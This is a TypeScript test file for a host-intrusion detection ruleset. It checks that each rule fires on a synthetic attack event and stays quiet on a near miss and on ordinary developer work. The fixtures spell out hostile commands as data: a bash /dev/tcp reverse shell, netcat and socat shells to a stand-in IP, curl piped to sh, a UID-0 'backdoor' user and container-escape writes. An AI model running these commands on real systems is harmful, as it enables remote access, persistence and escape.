// SPDX-License-Identifier: Apache-2.0
// The default ruleset: loads clean, every rule tagged with ATT&CK, fires on its attack and not on a near miss or on benign work.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import type { ContainerInfo, PeregrineEvent } from '../../src/events/types.js';
import { loadRules, type RuleSet } from '../../src/rules/index.js';
import { ev, execEv, proc, readText, repoRoot, users } from './helpers.js';

const file = join(repoRoot(), 'rules', 'peregrine_rules.yaml');
const set: RuleSet = loadRules([{ path: 'rules/peregrine_rules.yaml', text: readText(file) }], { users });

const ctr: ContainerInfo = {
  id: 'c0ffee',
  name: 'web',
  image: 'docker.io/library/nginx:1.25',
  image_id: 'sha256:1',
  runtime: 'containerd',
  labels: {},
};
const root = { uid: 0, gid: 0, euid: 0, egid: 0 };

const open = (
  path: string,
  access: Array<'read' | 'write' | 'create' | 'truncate' | 'append' | 'exec'>,
  by = proc('/usr/bin/python3', ['python3', 'x.py']),
  extra: Partial<PeregrineEvent> = {},
) =>
  ev('file.open', { process: by, file: { path, path_source: 'kernel', access }, return_code: 3, ...extra });
const rename = (from: string, to: string, by = proc('/usr/bin/mv', ['mv'])) =>
  ev('file.rename', {
    process: by,
    file: { path: from, path_source: 'kernel', new_path: to },
    return_code: 0,
  });
const bash = proc('/usr/bin/bash', ['bash']);

interface Case {
  rule: string;
  hit: PeregrineEvent;
  miss: PeregrineEvent;
}

const cases: Case[] = [
  {
    rule: 'Write below etc',
    hit: open('/etc/hosts', ['write']),
    miss: open('/etc/hosts', ['write'], proc('/usr/bin/dpkg', ['dpkg', '-i'])),
  },
  {
    rule: 'Write below binary dir',
    hit: open('/usr/bin/ls', ['write', 'truncate']),
    miss: open('/usr/bin/ls', ['read']),
  },
  {
    rule: 'Read shadow file by untrusted program',
    hit: open('/etc/shadow', ['read']),
    miss: open('/etc/shadow', ['read'], proc('/usr/bin/sudo', ['sudo'])),
  },
  {
    rule: 'Read SSH private key by untrusted program',
    hit: open('/home/alice/.ssh/id_ed25519', ['read']),
    miss: open('/home/alice/.ssh/id_ed25519.pub', ['read']),
  },
  {
    rule: 'Read cloud credentials by untrusted program',
    hit: open('/home/alice/.aws/credentials', ['read'], proc('/usr/bin/curl', ['curl'])),
    miss: open('/home/alice/.aws/credentials', ['read'], proc('/usr/local/bin/aws', ['aws', 's3', 'ls'])),
  },
  {
    rule: 'Shell spawned by server process',
    hit: execEv(['sh', '-c', 'id'], { parent: proc('/usr/sbin/nginx', ['nginx']) }),
    miss: execEv(['sh', '-c', 'id'], { parent: proc('/usr/sbin/sshd', ['sshd']) }),
  },
  {
    rule: 'Reverse shell',
    hit: ev('network.connect', {
      process: bash,
      network: {
        family: 'inet',
        protocol: 'tcp',
        local_address: '10.0.0.5',
        local_port: 40000,
        remote_address: '203.0.113.7',
        remote_port: 4444,
      },
      return_code: 0,
    }),
    miss: ev('network.connect', {
      process: bash,
      network: {
        family: 'inet',
        protocol: 'tcp',
        local_address: '127.0.0.1',
        local_port: 40000,
        remote_address: '127.0.0.1',
        remote_port: 8080,
      },
      return_code: 0,
    }),
  },
  {
    rule: 'Reverse shell',
    hit: execEv(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']),
    miss: execEv(['bash', '-c', 'echo /dev/null']),
  },
  {
    rule: 'Netcat or socat remote execution',
    hit: execEv(['nc', '-e', '/bin/sh', '203.0.113.7', '4444']),
    miss: execEv(['nc', '-z', 'example.com', '443']),
  },
  {
    rule: 'Netcat or socat remote execution',
    hit: execEv(['socat', 'TCP:203.0.113.7:4444', 'EXEC:/bin/bash']),
    miss: execEv(['socat', 'TCP-LISTEN:8080', 'TCP:localhost:80']),
  },
  {
    rule: 'Download piped to shell',
    hit: execEv(['sh', '-c', 'curl -fsSL https://x.example/i.sh | sh']),
    miss: execEv(['sh', '-c', 'curl -fsSL https://x.example/i.sh -o i.sh']),
  },
  {
    rule: 'User namespace created',
    hit: ev('namespace.unshare', {
      process: proc('/tmp/exploit', ['exploit']),
      privilege: { namespaces: ['CLONE_NEWUSER', 'CLONE_NEWNS'] },
      return_code: 0,
    }),
    miss: ev('namespace.unshare', {
      process: proc('/tmp/exploit', ['exploit']),
      privilege: { namespaces: ['CLONE_NEWNS'] },
      return_code: 0,
    }),
  },
  {
    rule: 'Capabilities gained by non-root process',
    hit: ev('privilege.capset', {
      process: proc('/tmp/x', ['x']),
      privilege: { cap_old: [], cap_new: ['CAP_SYS_ADMIN'], cap_gained: ['CAP_SYS_ADMIN'] },
      return_code: 0,
    }),
    miss: ev('privilege.capset', {
      process: proc('/tmp/x', ['x']),
      privilege: { cap_old: [], cap_new: ['CAP_NET_BIND_SERVICE'], cap_gained: ['CAP_NET_BIND_SERVICE'] },
      return_code: 0,
    }),
  },
  {
    rule: 'Setuid to root by non-root process',
    hit: ev('privilege.setuid', {
      process: proc('/tmp/x', ['x']),
      privilege: {
        old: { uid: 1000, euid: 1000, suid: 1000, gid: 1000, egid: 1000, sgid: 1000 },
        new: { uid: 0, euid: 0, suid: 0, gid: 1000, egid: 1000, sgid: 1000 },
      },
      return_code: 0,
    }),
    miss: ev('privilege.setuid', {
      process: proc('/usr/bin/passwd2', ['passwd2']),
      privilege: {
        old: { uid: 1000, euid: 0, suid: 0, gid: 1000, egid: 1000, sgid: 1000 },
        new: { uid: 0, euid: 0, suid: 0, gid: 1000, egid: 1000, sgid: 1000 },
      },
      return_code: 0,
    }),
  },
  {
    rule: 'Setuid or setgid bit set on file',
    hit: ev('file.chmod', {
      process: proc('/usr/bin/chmod', ['chmod', 'u+s', '/tmp/sh']),
      file: { path: '/tmp/sh', path_source: 'kernel', mode: 0o4755 },
      return_code: 0,
    }),
    miss: ev('file.chmod', {
      process: proc('/usr/bin/chmod', ['chmod', '755', '/tmp/sh']),
      file: { path: '/tmp/sh', path_source: 'kernel', mode: 0o755 },
      return_code: 0,
    }),
  },
  {
    rule: 'PTRACE attach to process',
    hit: ev('process.ptrace', {
      process: proc('/tmp/inject', ['inject']),
      ptrace: {
        request: 'PTRACE_ATTACH',
        target_pid: 1,
        target_exec_id: 'e1',
        target_binary: '/usr/sbin/sshd',
      },
      return_code: 0,
    }),
    miss: ev('process.ptrace', {
      process: proc('/usr/bin/gdb', ['gdb']),
      ptrace: {
        request: 'PTRACE_ATTACH',
        target_pid: 1,
        target_exec_id: 'e1',
        target_binary: '/usr/sbin/sshd',
      },
      return_code: 0,
    }),
  },
  {
    rule: 'Kernel module loaded',
    hit: ev('kernel.module_load', {
      process: proc('/usr/sbin/insmod', ['insmod', 'rk.ko'], root),
      kernel: { module: 'rk', path: '/tmp/rk.ko' },
      return_code: 0,
    }),
    miss: ev('kernel.module_load', {
      process: proc('/usr/lib/systemd/systemd-udevd', ['systemd-udevd'], root),
      kernel: { module: 'snd', path: '/lib/modules/snd.ko' },
      return_code: 0,
    }),
  },
  {
    rule: 'BPF program loaded by unexpected process',
    hit: ev('kernel.bpf', {
      process: proc('/tmp/rk', ['rk'], root),
      kernel: { bpf_cmd: 'BPF_PROG_LOAD', prog_type: 'kprobe' },
      return_code: 5,
    }),
    miss: ev('kernel.bpf', {
      process: proc('/tmp/rk', ['rk'], root),
      kernel: { bpf_cmd: 'BPF_MAP_LOOKUP_ELEM' },
      return_code: 0,
    }),
  },
  {
    rule: 'Execution from temporary directory',
    hit: execEv(['/tmp/.x/payload']),
    miss: execEv(['/tmp/go-build123/b001/exe/main']),
  },
  {
    rule: 'Fileless execution',
    hit: execEv(['/memfd:payload (deleted)'], { proc: { flags: ['exec', 'exe_from_memfd'] } }),
    miss: execEv(['/usr/bin/runc'], { proc: { flags: ['exec', 'exe_from_memfd'] } }),
  },
  {
    rule: 'Symlink or hardlink over sensitive file',
    hit: ev('file.symlink', {
      file: { path: '/etc/shadow', path_source: 'user', new_path: '/tmp/x' },
      return_code: 0,
    }),
    miss: ev('file.symlink', {
      file: { path: '/etc/hostname', path_source: 'user', new_path: '/tmp/x' },
      return_code: 0,
    }),
  },
  {
    rule: 'Clear log files',
    hit: open('/var/log/auth.log', ['write', 'truncate'], bash),
    miss: open('/var/log/auth.log', ['write', 'truncate'], proc('/usr/sbin/logrotate', ['logrotate'])),
  },
  {
    rule: 'Clear shell history',
    hit: ev('file.unlink', {
      process: proc('/usr/bin/rm', ['rm', '.bash_history']),
      file: { path: '/home/alice/.bash_history', path_source: 'kernel' },
      return_code: 0,
    }),
    miss: open('/home/alice/.bash_history', ['write', 'truncate'], bash),
  },
  {
    rule: 'Cron job written',
    hit: rename('/var/spool/cron/crontabs/tmp.1', '/var/spool/cron/crontabs/alice'),
    miss: rename('/tmp/a', '/tmp/b'),
  },
  {
    rule: 'Systemd unit written',
    hit: open('/etc/systemd/system/evil.service', ['write', 'create']),
    miss: open('/etc/systemd/system/evil.service', ['write'], proc('/usr/bin/dpkg', ['dpkg'])),
  },
  {
    rule: 'Shell startup file modified',
    hit: open('/home/alice/.bashrc', ['write', 'append']),
    miss: open('/home/alice/.bashrc', ['read']),
  },
  {
    rule: 'SSH authorized_keys modified',
    hit: open('/root/.ssh/authorized_keys', ['write', 'append']),
    miss: open('/root/.ssh/known_hosts', ['write', 'append']),
  },
  {
    rule: 'User or group created',
    hit: execEv(['useradd', '-o', '-u', '0', 'backdoor']),
    miss: execEv(['useradd', '--system', 'postgres'], {
      parent: proc('/usr/bin/sh', ['sh', '/var/lib/dpkg/info/postgresql-common.postinst', 'configure']),
    }),
  },
  {
    rule: 'Account database written directly',
    hit: open('/etc/passwd', ['write', 'append'], bash),
    miss: open('/etc/passwd', ['write'], proc('/usr/sbin/useradd', ['useradd'])),
  },
  {
    rule: 'Container escape via release_agent',
    hit: open('/sys/fs/cgroup/rdma/release_agent', ['write'], bash, { container: ctr }),
    miss: open('/sys/fs/cgroup/rdma/notify_on_release', ['write'], bash, { container: ctr }),
  },
  {
    rule: 'Host filesystem mounted from container',
    hit: ev('file.mount', {
      container: ctr,
      process: proc('/usr/bin/mount', ['mount', '/dev/sda1', '/mnt'], root),
      file: { path: '/mnt', path_source: 'user', source: '/dev/sda1', fstype: 'ext4' },
      return_code: 0,
    }),
    miss: ev('file.mount', {
      process: proc('/usr/bin/mount', ['mount', '/dev/sda1', '/mnt'], root),
      file: { path: '/mnt', path_source: 'user', source: '/dev/sda1', fstype: 'ext4' },
      return_code: 0,
    }),
  },
  {
    rule: 'Kernel tunable written for escape',
    hit: open('/proc/sys/kernel/core_pattern', ['write'], bash),
    miss: open(
      '/proc/sys/kernel/core_pattern',
      ['write'],
      proc('/usr/lib/systemd/systemd-sysctl', ['systemd-sysctl']),
    ),
  },
  {
    rule: 'Discovery command executed',
    hit: execEv(['whoami']),
    miss: execEv(['uname', '-m'], { parent: proc('/usr/bin/make', ['make']) }),
  },
  {
    rule: 'Discovery command executed',
    hit: execEv(['cat', '/etc/os-release']),
    miss: execEv(['cat', '/etc/hosts']),
  },
  {
    rule: 'Crypto miner executed',
    hit: execEv(['/opt/x/kworker', '-o', 'stratum+tcp://pool.example:3333']),
    miss: execEv(['/opt/x/kworker', '-o', 'out.txt']),
  },
  {
    rule: 'Connection to mining pool port',
    hit: ev('network.connect', {
      network: {
        family: 'inet',
        protocol: 'tcp',
        local_address: '10.0.0.5',
        local_port: 40000,
        remote_address: '198.51.100.9',
        remote_port: 3333,
      },
      return_code: 0,
    }),
    miss: ev('network.connect', {
      network: {
        family: 'inet',
        protocol: 'tcp',
        local_address: '10.0.0.5',
        local_port: 40000,
        remote_address: '10.0.0.9',
        remote_port: 3333,
      },
      return_code: 0,
    }),
  },
];

test('default ruleset loads with no errors and every rule is fully evaluable', () => {
  const rules = set.rules();
  assert.ok(rules.length >= 25);
  for (const r of rules) assert.ok(r.evaluable, `${r.name}: ${r.unsupportedFields.join(', ')}`);
  const warnings = set.warnings.filter((w) => !w.message.startsWith('required_plugin_versions'));
  assert.deepEqual(warnings, []);
});

test('every default rule has a priority and a MITRE tactic + technique tag', () => {
  for (const r of set.rules()) {
    assert.ok(
      r.tags.some((t) => /^mitre_[a-z_]+$/.test(t)),
      `${r.name}: no mitre_<tactic> tag`,
    );
    assert.ok(
      r.tags.some((t) => /^T\d{4}(\.\d{3})?$/.test(t)),
      `${r.name}: no T#### technique tag`,
    );
    assert.ok(r.mitre?.tactic && r.mitre.technique, r.name);
  }
});

test('every default rule has a triggering event and a near miss', () => {
  const covered = new Set(cases.map((c) => c.rule));
  for (const r of set.rules()) assert.ok(covered.has(r.name), `no test case for '${r.name}'`);
});

for (const c of cases) {
  test(`rule '${c.rule}' fires on its attack and not on the near miss (${c.hit.kind})`, () => {
    const hit = set.evaluate(c.hit).map((a) => a.rule);
    assert.ok(hit.includes(c.rule), `did not fire; got [${hit.join(', ')}]`);
    const alert = set.evaluate(c.hit).find((a) => a.rule === c.rule)!;
    assert.ok(!alert.output.includes('%'), alert.output);
    const miss = set.evaluate(c.miss).map((a) => a.rule);
    assert.ok(!miss.includes(c.rule), `near miss fired: [${miss.join(', ')}]`);
  });
}

// Benign work: what a developer machine and CI runners do all day.
function benign(): PeregrineEvent[] {
  const npm = proc('/usr/bin/node', ['npm', 'ci']);
  const npmChild = proc('/usr/bin/sh', ['sh', '-c', 'node-gyp rebuild']);
  const gcc = proc('/usr/bin/gcc', ['gcc', '-O2', '-c', 'a.c', '-o', 'a.o']);
  const make = proc('/usr/bin/make', ['make', '-j8']);
  const git = proc('/usr/bin/git', ['git', 'clone', 'git@github.com:x/y.git']);
  const ssh = proc('/usr/bin/ssh', ['ssh', 'git@github.com', "git-upload-pack 'x/y.git'"]);
  const apt = proc('/usr/bin/apt-get', ['apt-get', 'install', '-y', 'jq'], root);
  const dpkg = proc('/usr/bin/dpkg', ['dpkg', '--unpack', '/var/cache/apt/archives/jq.deb'], root);
  const postinst = proc('/usr/bin/sh', ['sh', '/var/lib/dpkg/info/libc-bin.postinst', 'triggered'], root);
  const testRunner = proc('/usr/bin/node', ['node', '--test', 'dist/test/']);
  const net = (p: typeof npm, ip: string, port: number): PeregrineEvent =>
    ev('network.connect', {
      process: p,
      network: {
        family: 'inet',
        protocol: 'tcp',
        local_address: '10.0.0.5',
        local_port: 40001,
        remote_address: ip,
        remote_port: port,
      },
      return_code: 0,
    });
  return [
    // npm ci
    execEv(['npm', 'ci'], { parent: bash }),
    net(npm, '104.16.0.35', 443),
    open('/home/alice/proj/node_modules/.package-lock.json', ['write', 'create', 'truncate'], npm),
    ev('process.exec', { process: npmChild, parent: npm }),
    ev('file.chmod', {
      process: npm,
      file: { path: '/home/alice/proj/node_modules/.bin/tsc', path_source: 'kernel', mode: 0o755 },
      return_code: 0,
    }),
    ev('file.symlink', {
      process: npm,
      file: {
        path: '../typescript/bin/tsc',
        path_source: 'user',
        new_path: '/home/alice/proj/node_modules/.bin/tsc',
      },
      return_code: 0,
    }),
    // compiling C
    ev('process.exec', { process: make, parent: bash }),
    ev('process.exec', { process: gcc, parent: make }),
    ev('process.exec', { process: proc('/usr/bin/uname', ['uname', '-m']), parent: make }),
    open('/home/alice/proj/a.o', ['write', 'create', 'truncate'], gcc),
    open('/tmp/ccA1b2C3.s', ['write', 'create', 'truncate'], gcc),
    ev('process.exec', { process: proc('/usr/lib/gcc/x86_64-linux-gnu/12/cc1', ['cc1']), parent: gcc }),
    open('/etc/ld.so.cache', ['read'], gcc),
    // git clone over ssh
    ev('process.exec', { process: git, parent: bash }),
    ev('process.exec', { process: ssh, parent: git }),
    open('/home/alice/.ssh/id_ed25519', ['read'], ssh),
    net(ssh, '140.82.112.3', 22),
    open('/home/alice/proj/.git/config', ['write', 'create'], git),
    // apt-get install
    ev('process.exec', { process: apt, parent: bash }),
    net(apt, '151.101.2.132', 80),
    ev('process.exec', { process: dpkg, parent: apt }),
    open('/usr/bin/jq', ['write', 'create', 'truncate'], dpkg),
    rename('/usr/bin/jq.dpkg-new', '/usr/bin/jq', dpkg),
    open('/etc/ld.so.cache~', ['write', 'create'], proc('/usr/sbin/ldconfig', ['ldconfig'], root)),
    ev('process.exec', { process: postinst, parent: dpkg }),
    ev('process.exec', { process: proc('/usr/sbin/ldconfig', ['ldconfig'], root), parent: postinst }),
    ev('file.chmod', {
      process: dpkg,
      file: { path: '/usr/bin/jq', path_source: 'kernel', mode: 0o755 },
      return_code: 0,
    }),
    // running a test suite
    ev('process.exec', { process: testRunner, parent: bash }),
    open('/tmp/node-test-1234/out.json', ['write', 'create'], testRunner),
    net(testRunner, '127.0.0.1', 3333),
    ev('process.exec', { process: proc('/usr/bin/sh', ['sh', '-c', 'tsc -p .']), parent: testRunner }),
    // shells rewriting their own history on exit
    open('/home/alice/.bash_history', ['write', 'truncate'], bash),
    // sshd login, systemd, cron
    open('/etc/shadow', ['read'], proc('/usr/sbin/sshd', ['sshd'], root)),
    ev('process.exec', {
      process: proc('/usr/bin/bash', ['-bash']),
      parent: proc('/usr/sbin/sshd', ['sshd'], root),
    }),
    open('/var/log/wtmp', ['write', 'append'], proc('/usr/sbin/sshd', ['sshd'], root)),
    open('/etc/machine-id', ['read'], proc('/usr/lib/systemd/systemd', ['systemd'], root)),
    ev('process.exec', {
      process: proc('/usr/sbin/logrotate', ['logrotate', '/etc/logrotate.conf'], root),
      parent: proc('/usr/sbin/cron', ['cron'], root),
    }),
    open('/var/log/syslog', ['write', 'truncate'], proc('/usr/sbin/logrotate', ['logrotate'], root)),
    // apt-get returning from its temporary _apt euid (seen live: real and saved uid stay 0)
    ev('privilege.setuid', {
      process: apt,
      privilege: {
        syscall: 'setresuid',
        old: { uid: 0, euid: 42, suid: 0, gid: 0, egid: 65534, sgid: 0 },
        new: { uid: 0, euid: 0, suid: 0, gid: 0, egid: 65534, sgid: 0 },
      },
      return_code: 0,
    }),
    // the agent itself loading its programs
    ev('kernel.bpf', {
      process: proc('/usr/bin/node', ['node', 'bin/peregrine.js', 'run'], {
        ...root,
        flags: ['exec', 'self'],
      }),
      kernel: { bpf_cmd: 'BPF_PROG_LOAD', prog_type: 'tracepoint' },
      return_code: 7,
    }),
  ];
}

test('benign work (npm ci, compiling C, git clone, apt-get install, a test suite) raises no WARNING-or-higher alert', () => {
  const severe = new Set(['EMERGENCY', 'ALERT', 'CRITICAL', 'ERROR', 'WARNING']);
  const bad: string[] = [];
  for (const e of benign()) {
    for (const a of set.evaluate(e)) if (severe.has(a.priority)) bad.push(`${a.rule} <- ${a.output}`);
  }
  assert.deepEqual(bad, []);
});
